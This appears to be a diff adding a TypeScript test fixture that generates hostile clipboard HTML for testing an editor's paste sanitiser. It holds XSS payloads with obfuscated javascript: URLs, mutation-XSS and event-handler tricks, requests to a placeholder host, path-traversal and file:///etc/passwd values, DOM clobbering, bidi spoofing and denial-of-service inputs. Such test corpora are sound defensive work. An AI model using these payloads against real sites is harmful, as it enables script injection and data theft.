@@ -1,0 +1,162 @@
+/**
+ * Hostile HTML, as a page or another program may put it on the clipboard: what an attack does, and what carries it.
+ * A script that runs sets `deckleHurt` on the window; a request goes to `stranger`.
+ */
+
+export interface Hostile {
+  readonly name: string;
+  readonly html: string;
+}
+
+const script = "window.deckleHurt=1";
+
+/** Addresses that are scripts, as browsers have read them at one time or another. */
+const addresses: Readonly<Record<string, string>> = {
+  javascript: `javascript:${script}`,
+  case: `JaVaScRiPt:${script}`,
+  tab: `java&#9;script:${script}`,
+  "line end": `java&#10;script:${script}`,
+  "carriage return": `java&#x0D;script:${script}`,
+  "leading space": `  &#x20;javascript:${script}`,
+  "leading control": `&#1;&#x1f;javascript:${script}`,
+  entities: `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${script}`,
+  "long entities": `&#0000106avascript&colon;${script}`,
+  NUL: `java&#0;script:${script}`,
+  "raw NUL": `java\0script:${script}`,
+  "soft hyphen": `java&shy;script:${script}`,
+  "no width": `&#x200b;javascript:${script}`,
+  vbscript: `vbscript:msgbox(1)`,
+  "data html": `data:text/html,<script>${script}</script>`,
+  "data base64": `data:text/html;base64,PHNjcmlwdD53aW5kb3cuZGVja2xlSHVydD0xPC9zY3JpcHQ+`,
+  "data svg": `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
+  blob: "blob:app://deckle/1",
+  filesystem: "filesystem:app://deckle/temporary/x.html",
+  file: "file:///etc/passwd",
+  app: "app://deckle/engine.js",
+  "view-source": "view-source:javascript:1",
+  "javascript comment": `javascript://%0a${script}`,
+  "user name": "https://bank.example@evil.example/",
+  "bidi override": "https://evil.example/&#x202e;moc.knab//:sptth",
+  huge: `https://evil.example/${"a".repeat(200_000)}`,
+};
+
+/** What takes an address. `@` is where it goes. */
+const carriers: Readonly<Record<string, string>> = {
+  link: `<p><a href="@">https://bank.example</a></p>`,
+  "link in a list": `<ul><li><a href="@" target=_blank ping="STRANGER">x</a></li></ul>`,
+  image: `<p>x<img src="@" alt="y"></p>`,
+  figure: `<figure data-image="true"><img src="@" data-source="@"><figcaption>c</figcaption></figure>`,
+  "svg link": `<svg><a xlink:href="@" href="@"><text y=20>x</text></a></svg>`,
+  form: `<form action="@"><button formaction="@">x</button><input type=image src="@"></form>`,
+  frames: `<iframe src="@"></iframe><object data="@"></object><embed src="@">`,
+};
+
+const alone: Readonly<Record<string, string>> = {
+  script: `<script>${script}</script><p>x</p>`,
+  "script, split": `<scr<script>ipt>${script}</scr</script>ipt>`,
+  "script source": `<script src="STRANGER/x.js"></script>`,
+  "image error": `<img src=x onerror="${script}">`,
+  "image error, slashes": `<img/src=x/onerror=${script}>`,
+  "image load": `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${script}">`,
+  "svg load": `<svg onload="${script}"></svg>`,
+  "svg animate": `<svg><a><animate attributeName=href values="javascript:${script}"/><text>x</text></a></svg>`,
+  "svg set": `<svg><set attributeName=onmouseover to="${script}"/></svg>`,
+  "svg use": `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${script}'/></svg>#x"/></svg>`,
+  foreignObject: `<svg><foreignObject><iframe srcdoc="<script>parent.deckleHurt=1</script>"></iframe></foreignObject></svg>`,
+  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
+  "math link": `<math href="javascript:${script}">x</math>`,
+  "details toggle": `<details open ontoggle="${script}">x</details>`,
+  "body load": `<body onload="${script}" background="STRANGER/b.png">x</body>`,
+  autofocus: `<input autofocus onfocus="${script}"><p tabindex=1 autofocus onfocus="${script}">x</p>`,
+  animation: `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${script}">x</p>`,
+  marquee: `<marquee onstart="${script}">x</marquee>`,
+  "video source": `<video poster="STRANGER/p.png"><source src="STRANGER/v" onerror="${script}"></video>`,
+  audio: `<audio src="STRANGER/a" autoplay onerror="${script}"></audio>`,
+  srcdoc: `<iframe srcdoc="<script>top.deckleHurt=1</script>"></iframe>`,
+  "meta refresh": `<meta http-equiv="refresh" content="0;url=STRANGER/refresh"><p>x</p>`,
+  "meta refresh later": `<p>x</p><meta http-equiv=refresh content="0;javascript:${script}">`,
+  base: `<base href="STRANGER/"><a href="x">y</a><img src="z.png">`,
+  "link sheet": `<link rel=stylesheet href="STRANGER/s.css"><link rel=prefetch href="STRANGER/p"><link rel=preconnect href="STRANGER"><p>x</p>`,
+  "style import": `<style>@import url(STRANGER/i.css);</style><p>x</p>`,
+  "style import, escaped": `<style>@\\69mport 'STRANGER/i.css';</style><p>x</p>`,
+  "style background": `<style>p{background:url(STRANGER/b.png)}</style><p>x</p>`,
+  "own style": `<p style="background:url(STRANGER/c.png);position:fixed;inset:0;z-index:99999">x</p>`,
+  "own style, list": `<ul style="list-style:url(STRANGER/d.png)"><li style="content:url(STRANGER/e.png)">x</li></ul>`,
+  "style of the app": `<style>*{display:none!important}</style><p>x</p>`,
+  font: `<style>@font-face{font-family:f;src:url(STRANGER/f.woff)}p{font-family:f}</style><p>x</p>`,
+  srcset: `<img srcset="STRANGER/1.png 1x, STRANGER/2.png 2x" src="STRANGER/0.png">`,
+  picture: `<picture><source srcset="STRANGER/3.png"><img src="STRANGER/4.png" loading=eager></picture>`,
+  "image from elsewhere": `<p>x <img src="STRANGER/5.png" width=1 height=1></p>`,
+  "table background": `<table background="STRANGER/t.png"><tr><td background="STRANGER/u.png">x</td></tr></table>`,
+  template: `<template><img src=x onerror="${script}"></template><p>x</p>`,
+  "shadow root": `<div><template shadowrootmode=open><img src=x onerror="${script}"></template></div>`,
+  noscript: `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
+  "mutation, table": `<table><svg><style><img src=x onerror="${script}"></style></svg></table>`,
+  "mutation, style": `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
+  "mutation, comment": `<!--><img src=x onerror="${script}">--><p>x</p>`,
+  "mutation, cdata": `<svg><![CDATA[><img src=x onerror="${script}">]]></svg>`,
+  "mutation, xmp": `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp>`,
+  "mutation, textarea": `<textarea><p title="</textarea><img src=x onerror=${script}>"></textarea>`,
+  "mutation, title": `<title><p title="</title><img src=x onerror=${script}>">`,
+  "mutation, form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
+  "conditional comment": `<!--[if gte IE 4]><script>${script}</script><![endif]--><p>x</p>`,
+  "clobbered names": `<a id=deckle name=trustedTypes>x</a><form id=body name=document><input name=createElement></form><img name=getElementById>`,
+  prototype: `<p id=__proto__ data-__proto__=x class=constructor>x</p>`,
+  "custom element": `<x-y onclick="${script}" is="z">x</x-y>`,
+  "entities that make tags": `<p>&lt;img src=x onerror=${script}&gt;</p>`,
+  "highlight colour": `<p><mark data-color="red;background:url(STRANGER/h.png)">x</mark></p>`,
+  "code language": `<pre data-language='"><img src=x onerror=${script}>'><code class="language-<script>">x</code></pre>`,
+  "callout kind": `<aside data-kind='"><script>${script}</script>'><p>x</p></aside>`,
+  "footnote names": `<p>x<sup data-footnote="__proto__">1</sup></p><section data-footnote="__proto__"><p>y</p></section>`,
+  "forged picture": `<figure data-image=true><img data-hash="../../../../etc/passwd" data-media-type="text/html" data-size="-1"><figcaption>x</figcaption></figure>`,
+  "forged file": `<p>x<span data-file="${"a".repeat(64)}" data-name="../../x.exe" data-media-type="<b>" data-size="1e99">y</span></p>`,
+  "forged document link": `<p><a data-document="javascript:${script}" data-title="x">x</a></p>`,
+  "forged comment": `<p><span data-comment="&quot;><script>">x</span></p>`,
+  "ours: deeper than it is": `<p data-pm-slice="90 90 []">x</p>`,
+  "ours: not a list": `<p data-pm-slice="0 0 null">x</p>`,
+  "ours: bad JSON": `<p data-pm-slice="1 1 [&quot;">x</p>`,
+  "ours: wrong attributes": `<p data-pm-slice='1 1 ["heading",{"level":"1 onload=${script}"}]'>x</p>`,
+  "ours: wrong level": `<li data-pm-slice='1 1 ["ordered_list",{"start":"1e9"},"list_item",{"checked":"yes","id":{"a":1}}]'><p>x</p></li>`,
+  "ours: unknown": `<p data-pm-slice='1 1 ["unknown_container",{"type":"table","data":"not JSON","id":7}]'>x</p>`,
+  "ours: a thousand deep": `<p data-pm-slice='1 1 [${Array.from({ length: 1000 }, () => '"blockquote",null').join()}]'>x</p>`,
+  "ours: wrapped": `<p data-pm-slice="1 1 -99999999 []">x</p>`,
+  bidi: `<p>pay &#x202e;gnihton&#x202c; &#x2066;x &#x202d;&#x202e;&#x2067;</p>`,
+  "bidi, open": `<p>${"&#x202e;".repeat(500)}x</p><p>y</p>`,
+  "no width": `<p>${"&#x200b;&#x200d;&#xfeff;&#x2060;".repeat(2000)}x</p>`,
+  zalgo: `<p>x${"&#x0301;".repeat(20_000)}</p>`,
+  NUL: `<p>a\0b&#0;c</p>`,
+  "half characters": `<p>a&#xD800;b\ud800c\udc00 d</p>`,
+  controls: `<p>a\u0001\u0008\u001f\u007f\u0085b</p>`,
+  "huge attribute": `<p title="${"a".repeat(2_000_000)}"><a href="https://a.example/" title="${"b".repeat(500_000)}">x</a></p>`,
+  "many attributes": `<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=1`).join(" ")}>x</p>`,
+  "huge description": `<p>x<img src="https://a.example/x.png" alt="${"c".repeat(1_000_000)}"></p>`,
+  "huge word": `<p>${"w".repeat(300_000)}</p>`,
+  "deep boxes": `${"<div>".repeat(10_000)}x`,
+  "deep quotes": `${"<blockquote>".repeat(10_000)}x`,
+  "deep lists": `${"<ul><li>".repeat(10_000)}x`,
+  "deep emphasis": `${"<b><i>".repeat(10_000)}x`,
+  "deep tables": `${"<table><tr><td>".repeat(10_000)}x`,
+  "deep spans": `<p>${"<span style='font-weight:bold'>".repeat(10_000)}x</p>`,
+  "a million cells": `<table>${"<tr>" + "<td colspan=1000 rowspan=1000>x</td>".repeat(10)}</tr></table>`,
+  "a million cells, wide": `<table>${`<tr>${"<td colspan=1000>x</td>".repeat(100)}</tr>`.repeat(10)}</table>`,
+  "a million cells, tall": `<table>${`<tr>${"<td rowspan=65534>x</td>".repeat(50)}</tr>`.repeat(100)}</table>`,
+  "many cells": `<table>${`<tr>${"<td>".repeat(200)}</tr>`.repeat(200)}</table>`,
+  "many paragraphs": "<p>a".repeat(60_000),
+  "many spans": `<p>${"<b>a</b>b".repeat(60_000)}</p>`,
+  "many rules": `<style>${"p,b,i{color:red}".repeat(20_000)}</style>${"<p>x</p>".repeat(2_000)}`,
+  "many footnotes": `${Array.from({ length: 3_000 }, (_, i) => `<a href="#n${i}" id="r${i}">x</a>`).join("")}${Array.from({ length: 3_000 }, (_, i) => `<p id="n${i}"><a href="#r${i}">y</a></p>`).join("")}`,
+  "more than is taken": `<p>${"many words ".repeat(500_000)}</p>`,
+  "wrong styles": `<p style="font-weight:${"9".repeat(100_000)}">x</p>`,
+};
+
+export function hostileHtml(stranger: string): Hostile[] {
+  const filled = (html: string): string => html.replaceAll("STRANGER", stranger);
+  const crossed = Object.entries(carriers).flatMap(([carrier, html]) =>
+    Object.entries(addresses).map(([address, words]) => ({
+      name: `${carrier}: ${address}`,
+      html: filled(html.replaceAll("@", () => words)),
+    })),
+  );
+  const single = Object.entries(alone).map(([name, html]) => ({ name, html: filled(html) }));
+  return [...crossed, ...single];
+}
